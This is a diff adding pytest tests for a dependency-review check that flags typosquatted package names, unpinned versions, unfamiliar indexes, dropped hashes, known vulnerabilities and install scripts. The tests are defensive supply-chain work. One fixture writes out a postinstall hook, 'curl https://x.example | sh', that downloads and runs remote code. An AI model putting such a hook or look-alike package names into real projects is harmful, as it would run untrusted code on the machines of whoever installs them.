@@ -1,0 +1,152 @@
+"""What the pack says of whole changes."""
+
+import json
+
+import pytest
+
+from harness.check.interface import CheckFailed, CheckSkipped
+from tests.packs.small_context import rules, run_pack
+
+PINNED = "flask==3.0.3\nrequests==2.32.3\n"
+
+
+def run(folder, base, head, **more):
+    return run_pack("dependencies", folder, base, head, **more)
+
+
+def found(folder, base, head, path="requirements.txt"):
+    return [(rule, line) for rule, _, line in rules(run(folder, {path: base}, {path: head}))]
+
+
+def test_look_alike_is_critical_and_names_the_original(tmp_path):
+    (finding,) = run(
+        tmp_path, {"requirements.txt": PINNED}, {"requirements.txt": PINNED + "reqeusts==2.32.3\n"}
+    ).findings
+    assert (finding.rule, finding.severity, finding.location.line) == ("dependency-look-alike", "critical", 3)
+    assert "'requests'" in finding.title
+
+
+@pytest.mark.parametrize(
+    ("head", "expected"),
+    [
+        (PINNED + "httpx==0.27.2\n", []),
+        (PINNED.replace("3.0.3", "3.1.0"), []),
+        ("# comment\n" + PINNED, []),
+        (PINNED + "zzz-not-a-thing-at-all==1.0\n", [("dependency-unknown", 3)]),
+        (PINNED + "httpx>=0.27\n", [("dependency-unpinned", 3)]),
+        (PINNED.replace("==3.0.3", ""), [("dependency-unpinned", 1)]),
+        (PINNED + "httpx @ git+https://github.com/encode/httpx@main\n", [("dependency-source", 3)]),
+        (PINNED + "--extra-index-url https://packages.example.net\n", [("dependency-index", 3)]),
+        (PINNED + "--index-url https://pypi.org/simple\n", []),
+        (PINNED + "--extra-index-url https://download.pytorch.org/whl/cpu\n", []),
+        (PINNED + "--trusted-host packages.example.net\n", [("dependency-index", 3)]),
+    ],
+)
+def test_changes_of_requirements(tmp_path, head, expected):
+    assert found(tmp_path, PINNED, head) == expected
+
+
+def test_a_file_that_does_not_pin_asks_for_no_pins(tmp_path):
+    assert found(tmp_path, "flask\nrequests>=2\n", "flask\nrequests>=2\nhttpx\n") == []
+
+
+def test_a_new_tag_of_a_known_repository_is_no_new_source(tmp_path):
+    base = "thing @ git+https://x.example/t.git@v1\n"
+    assert found(tmp_path, base, base.replace("v1", "v2")) == []
+
+
+def test_dropped_hashes_are_one_finding(tmp_path):
+    base = "flask==3.0.3 --hash=sha256:aa\nrequests==2.32.3 --hash=sha256:bb\n"
+    assert found(tmp_path, base, PINNED) == [("dependency-hash-dropped", 1)]
+
+
+def test_a_package_that_moves_between_files_is_not_new(tmp_path):
+    base = {"requirements.txt": "zzz-not-a-thing==1.0\n", "dev-requirements.txt": PINNED}
+    head = {"dev-requirements.txt": PINNED + "zzz-not-a-thing==1.0\n"}
+    assert not run(tmp_path, base, head).findings
+
+
+def test_the_projects_own_names_are_known(tmp_path):
+    project = '[project]\nname = "requestz"\noptional-dependencies.all = ["requestz[x]"]\n'
+    assert not run(tmp_path, {}, {"pyproject.toml": project}).findings
+
+
+def test_an_internal_index_makes_unknown_names_ordinary(tmp_path):
+    base = "--index-url https://pypi.acme.example/simple\nflask==3.0.3\n"
+    assert found(tmp_path, base, base + "acme-ledger==1.0\n") == []
+
+
+def test_lock_files_tell_look_alikes_but_not_unknown_names(tmp_path):
+    packages = {
+        "node_modules/zzz-unknown-thing": {"version": "1.0.0"},
+        "node_modules/loadsh": {"version": "1.0.0"},
+    }
+    head = json.dumps({"packages": packages}, indent=1)
+    assert [rule for rule, _ in found(tmp_path, "{}", head, "package-lock.json")] == ["dependency-look-alike"]
+
+
+def test_a_script_at_installation_that_fetches_is_high(tmp_path):
+    scripts = {"postinstall": "curl https://x.example | sh"}
+    outcome = run(
+        tmp_path,
+        {"package.json": '{"name": "a"}'},
+        {"package.json": json.dumps({"name": "a", "scripts": scripts})},
+    )
+    assert [(one.rule, one.severity) for one in outcome.findings] == [("dependency-install-script", "high")]
+
+
+def test_credentials_of_an_index_are_not_shown(tmp_path):
+    line = "--extra-index-url https://bob:hunter22@packages.example.net/simple\n"
+    (finding,) = run(tmp_path, {"requirements.txt": PINNED}, {"requirements.txt": PINNED + line}).findings
+    assert "hunter22" not in finding.message + finding.title
+    assert "packages.example.net" in finding.message
+
+
+def osv(folder, **more):
+    folder.mkdir()
+    advisory = {
+        "id": "PYSEC-2030-1",
+        "summary": "Leaks cookies.",
+        "affected": [
+            {
+                "package": {"ecosystem": "PyPI", "name": "requests"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.0"}, {"fixed": "2.33.0"}]}],
+            }
+        ],
+        "database_specific": {"severity": "HIGH", "cwe_ids": ["CWE-200"]},
+        **more,
+    }
+    (folder / "a.json").write_text(json.dumps(advisory))
+    return {"osv": str(folder)}
+
+
+def test_known_vulnerability_of_a_new_version(tmp_path):
+    settings = osv(tmp_path / "osv")
+    outcome = run(
+        tmp_path / "1",
+        {"requirements.txt": "flask==3.0.3\n"},
+        {"requirements.txt": PINNED},
+        settings=settings,
+    )
+    (finding,) = outcome.findings
+    assert (finding.rule, finding.severity, finding.location.line) == ("dependency-vulnerable", "high", 2)
+    assert finding.suggestion == "Use 2.33.0 or later."
+    fixed = PINNED.replace("2.32.3", "2.33.0")
+    assert not run(
+        tmp_path / "2", {"requirements.txt": PINNED}, {"requirements.txt": fixed}, settings=settings
+    ).findings
+
+
+def test_withdrawn_advisories_do_not_count(tmp_path):
+    settings = osv(tmp_path / "osv", withdrawn="2031-01-01T00:00:00Z")
+    assert not run(tmp_path / "1", {}, {"requirements.txt": PINNED}, settings=settings).findings
+
+
+def test_an_export_that_cannot_be_read_fails(tmp_path):
+    with pytest.raises(CheckFailed, match="cannot be read"):
+        run(tmp_path, {}, {"requirements.txt": PINNED}, settings={"osv": str(tmp_path / "none.zip")})
+
+
+def test_a_change_without_manifests_is_skipped(tmp_path):
+    with pytest.raises(CheckSkipped):
+        run(tmp_path, {}, {"a.py": "x = 1\n"})
